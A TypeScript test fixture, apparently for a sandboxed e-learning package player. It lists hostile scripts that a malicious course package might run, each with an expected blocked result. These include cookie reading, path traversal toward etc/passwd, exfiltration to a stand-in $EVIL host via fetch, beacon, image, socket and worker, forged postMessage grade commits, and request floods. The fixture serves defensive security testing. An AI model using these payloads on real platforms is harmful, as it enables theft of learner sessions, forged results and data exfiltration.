/**
 * What a hostile package does while it is played: the body of an asynchronous function in its own page, and what may come of
 * it. `$SITE`, `$EVIL`, `$ATTEMPT`, `$WINDOW`, `$TOKEN`, `$EXPIRED` stand for the site, somebody else's server, another learner's
 * attempt and window, their signed path and one that has expired.
 */
export type Attack = [id: string, what: string, script: string, outcome: string | RegExp]

const commit = (more: string) =>
  `JSON.stringify({ windowId: '$WINDOW', sequence: 900, itemId: 'uno', launch: 1, values: { 'cmi.core.lesson_status': 'passed' }, seconds: null, exit: '', ended: true, sequencing: null, whole: null, calls: [], ${more} })`
const post = (address: string, body: string) =>
  `return fetch(${address}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: ${body} }).then(() => 'sent')`
const own = `const own = JSON.parse(parent.document.getElementById('config').textContent)`
const ownCommit = (more: string) =>
  `${own}; const answer = await fetch('../commits', { method: 'POST', body: JSON.stringify({ windowId: own.windowId, sequence: own.sequence + 100, itemId: 'learner', launch: 1, values: {}, seconds: null, exit: '', ended: false, sequencing: null, whole: null, calls: [], ${more} }) }); return answer.status + ' ' + (await answer.text())`
const tried = (what: string) => `try { return String(${what}) } catch (error) { return error.name }`
const status = (address: string) => `return String((await fetch(${address})).status)`

const reading: Attack[] = [
  [
    'cookie',
    'reads cookies, its own page’s and the shell’s',
    `return '[' + document.cookie + parent.document.cookie + ']'`,
    '[]',
  ],
  ['top-page', 'reads the site’s page', tried('top.document.body.innerHTML'), 'SecurityError'],
  ['top-cookie', 'reads the site’s cookies', tried('parent.parent.document.cookie'), 'SecurityError'],
  ['top-storage', 'reads what the site stores', tried('parent.parent.localStorage.length'), 'SecurityError'],
  ['top-address', 'reads where the site is', tried('top.location.href'), 'SecurityError'],
  ['top-call', 'calls a function of the site', tried('top.fetch("/")'), 'SecurityError'],
  [
    'who',
    'looks through what the shell was given for who is learning',
    `return /prova\\.example|personId|attemptId|email/.test(parent.document.documentElement.innerHTML) ? 'found' : 'nothing'`,
    'nothing',
  ],
  [
    'fetch-site',
    'reads a page of the site',
    `return fetch('$SITE/learn', { credentials: 'include' }).then((one) => one.text())`,
    'TypeError',
  ],
  [
    'frame-site',
    'shows the site in a frame of its own',
    `const frame = document.createElement('iframe'); frame.src = '$SITE/learn'; document.body.append(frame); await pause(500); ${tried("frame.contentDocument ? 'empty' : 'away'")}`,
    /^(empty|away|SecurityError)$/,
  ],
  ['other-path', 'alters another learner’s signed path', status(`'/play/$TOKEN'.slice(0, -9) + 'AAAAAAAA/'`), '404'],
  ['expired', 'asks by a path that has expired', status(`'/play/$EXPIRED/'`), '404'],
  ['no-path', 'asks without a path', status(`'/play//files/uno.html'`), /^(404|TypeError)$/],
  ['traversal', 'asks for files of the server', status(`'../files/..%2f..%2f..%2fetc%2fpasswd'`), '404'],
  ['traversal-2', 'asks for files of the server otherwise', status(`'../files/%2e%2e%5c%2e%2e%5cpackage.json'`), '404'],
  [
    'player-files',
    'asks for the server’s own files beside the player',
    status(`'/player/..%2f..%2fpackage.json'`),
    /^(404|TypeError)$/,
  ],
]

const sending: Attack[] = [
  [
    'post-commits',
    'sends another learner’s result to the site',
    post(`'$SITE/packages/commits'`, `JSON.stringify({ attemptId: '$ATTEMPT', commit: ${commit('')} })`),
    'TypeError',
  ],
  ['post-answers', 'answers quizzes in the learner’s name', post(`'$SITE/answers'`, `'{}'`), 'TypeError'],
  ['post-logout', 'signs the learner out', post(`'$SITE/logout'`, `''`), 'TypeError'],
  [
    'form-logout',
    'signs the learner out by a form',
    `const form = document.createElement('form'); form.method = 'post'; form.action = '$SITE/logout'; const frame = document.createElement('iframe'); frame.name = 'qui'; document.body.append(form, frame); form.target = 'qui'; form.submit(); await pause(500); return 'tried'`,
    'tried',
  ],
  [
    'beacon',
    'throws a result at the site',
    `navigator.sendBeacon('$SITE/packages/commits', ${commit('')}); await pause(300); return 'tried'`,
    'tried',
  ],
  [
    'evil-fetch',
    'tells somebody else',
    `return fetch('$EVIL/fetch?' + encodeURIComponent(document.title)).then(() => 'told')`,
    'TypeError',
  ],
  [
    'evil-beacon',
    'throws something to somebody else',
    `navigator.sendBeacon('$EVIL/beacon', 'x'); await pause(300); return 'tried'`,
    'tried',
  ],
  [
    'evil-picture',
    'tells somebody else by a picture',
    `return new Promise((done) => { const image = new Image(); image.onload = () => done('told'); image.onerror = () => done('refused'); image.src = '$EVIL/image' })`,
    'refused',
  ],
  [
    'evil-script',
    'loads a script from elsewhere',
    `return import('$EVIL/script.js').then(() => 'loaded')`,
    'TypeError',
  ],
  [
    'evil-style',
    'loads styles and letters from elsewhere',
    `const style = document.createElement('style'); style.textContent = '@import url($EVIL/style); @font-face { font-family: x; src: url($EVIL/font) } body { font-family: x; background: url($EVIL/background) }'; document.head.append(style); await pause(500); return 'tried'`,
    'tried',
  ],
  [
    'evil-socket',
    'opens a socket',
    `return new Promise((done) => { try { const socket = new WebSocket('$EVIL/'.replace('http', 'ws')); socket.onopen = () => done('open'); socket.onerror = () => done('refused') } catch (error) { done(error.name) } })`,
    /^(refused|SecurityError)$/,
  ],
  [
    'evil-frame',
    'shows somebody else’s page',
    `const frame = document.createElement('iframe'); frame.src = '$EVIL/frame'; document.body.append(frame); await pause(500); return 'tried'`,
    'tried',
  ],
  [
    'evil-worker',
    'tells somebody else from a worker',
    `const code = "fetch('$EVIL/worker').then(() => postMessage('told'), () => postMessage('refused'))"; return new Promise((done) => { const worker = new Worker(URL.createObjectURL(new Blob([code]))); worker.onmessage = ({ data }) => done(data) })`,
    'refused',
  ],
  [
    'evil-data',
    'tells somebody else from a page within it',
    `const frame = document.createElement('iframe'); frame.src = 'data:text/html,<img src="$EVIL/data"><script>fetch("$EVIL/data2")</' + 'script>'; document.body.append(frame); await pause(600); return 'tried'`,
    'tried',
  ],
  [
    'evil-form',
    'sends a form to somebody else',
    `const form = document.createElement('form'); form.action = '$EVIL/form'; form.target = 'altrove'; const frame = document.createElement('iframe'); frame.name = 'altrove'; document.body.append(form, frame); form.submit(); await pause(300); return 'tried'`,
    'tried',
  ],
  [
    'evil-hint',
    'has somebody else’s server looked for',
    `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload']) { const link = document.createElement('link'); link.rel = rel; link.href = '$EVIL/hint'; document.head.append(link) } await pause(500); return 'tried'`,
    'tried',
  ],
]

const taking: Attack[] = [
  ['window', 'opens a window', `return String(window.open('$EVIL/window'))`, 'null'],
  [
    'blank',
    'opens a window by a link',
    `const link = document.createElement('a'); link.href = '$EVIL/blank'; link.target = '_blank'; document.body.append(link); link.click(); await pause(300); return 'tried'`,
    'tried',
  ],
  ['top', 'takes the page elsewhere', tried(`(top.location.href = '$EVIL/top', 'gone')`), 'SecurityError'],
  [
    'top-link',
    'takes the page elsewhere by a link',
    `const link = document.createElement('a'); link.href = '$EVIL/top'; link.target = '_top'; document.body.append(link); link.click(); await pause(300); return 'tried'`,
    'tried',
  ],
  [
    'worker',
    'leaves a worker behind',
    `return navigator.serviceWorker.register('sw.js').then(() => 'left', (error) => error.name)`,
    /Error$/,
  ],
  [
    'worker-2',
    'leaves a worker behind above all paths',
    `return navigator.serviceWorker.register('sw.js', { scope: '/' }).then(() => 'left', (error) => error.name)`,
    /Error$/,
  ],
  [
    'domain',
    'makes itself of the site’s domain',
    tried(`(document.domain = location.hostname, 'changed')`),
    'SecurityError',
  ],
  [
    'place',
    'asks where the learner is',
    `return new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('here'), ({ code }) => done('refused ' + code)))`,
    'refused 1',
  ],
  [
    'eval',
    'runs what it puts together itself, as packages do',
    `return String(eval('1 + 1')) + new Function('return 3')()`,
    '23',
  ],
  [
    'dialogs',
    'asks again and again',
    `for (let count = 0; count < 20; count += 1) alert('Ancora'); return 'asked'`,
    'asked',
  ],
]

const lying: Attack[] = [
  [
    'item',
    'writes for an item it does not have',
    ownCommit(`itemId: 'altro'`),
    '200 {"ok":false,"reason":"unknown_item"}',
  ],
  ['other-window', 'writes through another learner’s window', ownCommit(`windowId: '$WINDOW'`), '400 '],
  ['not-a-commit', 'writes what is none', ownCommit(`values: { a: { b: 1 } }`), '400 '],
  [
    'learner',
    'writes what only we say',
    ownCommit(`values: { 'cmi.core.student_id': 'io', 'cmi.core.total_time': '9999:00:00' }`),
    /^200 \{"ok":true/,
  ],
  ['too-long', 'keeps 10 MB', ownCommit(`values: { 'cmi.suspend_data': 'x'.repeat(10_000_000) }`), '413 '],
  [
    'too-long-2',
    'keeps 10 MB by the runtime',
    `const api = parent.API; api.LMSInitialize(''); return api.LMSSetValue('cmi.suspend_data', 'x'.repeat(10_000_000)) + ' ' + api.LMSGetLastError()`,
    'false 405',
  ],
  [
    'insides',
    'reaches for the insides of the runtime',
    `const api = parent.API; return [api.cmi, api.settings, api.LMSSetValue('cmi.__proto__.x', '1'), api.LMSSetValue('cmi.constructor.prototype.x', '1')].join(' ')`,
    '  false false',
  ],
  [
    'forged',
    'speaks to the site as the shell does',
    `const commit = ${commit('')}; for (const to of [top, parent.parent]) { to.postMessage({ sguardi: 'commit', attemptId: '$ATTEMPT', commit: JSON.parse(commit) }, '*'); to.postMessage({ sguardi: 'state', state: 'read_only', text: 'RUBATO' }, '*') } await pause(300); return 'said'`,
    'said',
  ],
  [
    'forged-shell',
    'has the shell itself say it',
    `const script = parent.document.createElement('script'); script.src = new URL('shell.js', location.href); parent.document.head.append(script); await pause(600); return 'said'`,
    'said',
  ],
  [
    'storm',
    'speaks to the site without end',
    `const script = parent.document.createElement('script'); script.src = new URL('storm.js', location.href); parent.document.head.append(script); await pause(1500); return 'said'`,
    'said',
  ],
  [
    'flood',
    'writes without end',
    `${own}; const replies = []; for (let count = 0; count < 350 && replies.at(-1) !== 'too_many'; count += 1) { const answer = await fetch('../commits', { method: 'POST', body: JSON.stringify({ windowId: own.windowId, sequence: own.sequence + 1000 + count, itemId: 'flood', launch: 1, values: { 'cmi.core.lesson_location': String(count) }, seconds: null, exit: '', ended: false, sequencing: null, whole: null, calls: [] }) }); replies.push((await answer.json()).reason) } return replies.at(-1)`,
    'too_many',
  ],
]

export const attacks: Attack[] = [...reading, ...sending, ...taking, ...lying]

const forged = `{ sguardi: 'commit', attemptId: '$ATTEMPT', commit: ${commit('').replace('JSON.stringify(', '').replace(/\)$/, '')} }`
/** Scripts that a package has the shell load. */
export const shellScripts: Record<string, string> = {
  'shell.js': `parent.postMessage(${forged}, '$SITE'); parent.postMessage({ sguardi: 'state', state: 'saved', text: 'RUBATO' }, '$SITE')`,
  'storm.js': `for (let count = 0; count < 5000; count += 1) parent.postMessage(${forged}, '$SITE')`,
}

/** The page that does it, for every learner who opens it. */
export const attackPage = (title: string, script: string) => `<!doctype html>
<html lang="it"><meta charset="utf-8"><title>${title}</title>
<h1>${title}</h1>
<script>
  const pause = (time) => new Promise((resolve) => setTimeout(resolve, time))
  window.outcome = (async () => { ${script} })().catch((error) => error.name).then(String)
</script>`
